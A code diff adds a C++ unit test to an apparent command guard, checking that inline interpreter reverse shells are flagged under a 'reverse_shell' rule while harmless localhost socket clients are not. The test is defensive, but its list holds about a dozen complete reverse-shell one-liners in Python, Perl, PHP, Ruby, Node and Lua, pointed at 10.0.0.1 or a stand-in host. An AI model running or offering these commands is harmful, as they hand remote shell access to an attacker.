@@ -316,6 +316,62 @@ TEST(GuardClasses, FlowsThroughDescriptorsAreFollowed) {
   });
 }
 
+// Reverse shells written in inline interpreter code (or a heredoc, or a script written in the
+// line): a socket plus a shell, a pty or descriptors rewired onto it. A socket alone is not one.
+TEST(GuardClasses, InterpreterReverseShellsAreNamed) {
+  const std::vector<std::string> shells = {
+      "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+      "s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
+      "os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'",
+      "sudo /usr/bin/python3.11 -c 'import socket,subprocess;s=socket.socket();s.connect((\"h\",1));"
+      "subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'",
+      "env PYTHONUNBUFFERED=1 python -c \"import socket as k,pty,os;c=k.create_connection(('h',9));"
+      "[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\"",
+      "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+      "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
+      "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
+      "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");"
+      "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+      "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+      "timeout 60 php -r '$s=fsockopen(\"h\",1);$p=proc_open(\"sh\",[0=>$s,1=>$s,2=>$s],$pipes);'",
+      "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;"
+      "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+      "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"h\",\"1\");"
+      "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
+      "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
+      "var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){client.pipe(sh.stdin);"
+      "sh.stdout.pipe(client);sh.stderr.pipe(client);});'",
+      "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');"
+      "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
+      "python3 - <<'X'\nimport socket,os,pty\ns=socket.socket();s.connect((\"h\",1))\n"
+      "os.dup2(s.fileno(),0);pty.spawn(\"sh\")\nX",
+      "printf 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));"
+      "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' > /tmp/r.py; python3 /tmp/r.py",
+  };
+  for (const std::string& c : shells) {
+    const GuardVerdict v = JudgeCommand(c, Options());
+    bool named = false;
+    for (const GuardReason& r : v.reasons) named = named || r.rule == "reverse_shell";
+    EXPECT_TRUE(named) << c << " -> " << Describe(v);
+    EXPECT_EQ(v.decision, kApprove) << c;
+  }
+  const std::vector<std::string> clients = {
+      "python3 -c 'import socket; s=socket.create_connection((\"localhost\",8000)); "
+      "s.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(100))'",
+      "python3 -c 'import socket,subprocess; s=socket.socket(); s.connect((\"localhost\",8000)); "
+      "subprocess.run([\"pytest\"])'",
+  };
+  for (const std::string& c : clients) {
+    const GuardVerdict v = JudgeCommand(c, Options());
+    for (const GuardReason& r : v.reasons) EXPECT_NE(r.rule, "reverse_shell") << c;
+  }
+  RunTable({
+      {"printf 'import socket\\ns=socket.create_connection((\"localhost\",8000))\\n"
+       "print(s.recv(10))\\n' > check.py; python3 check.py",
+       kAllow},
+  });
+}
+
 // A script written earlier in the line and then run is judged as the code it is.
 TEST(GuardClasses, ScriptsWrittenEarlierInTheLineAreJudged) {
   RunTable({
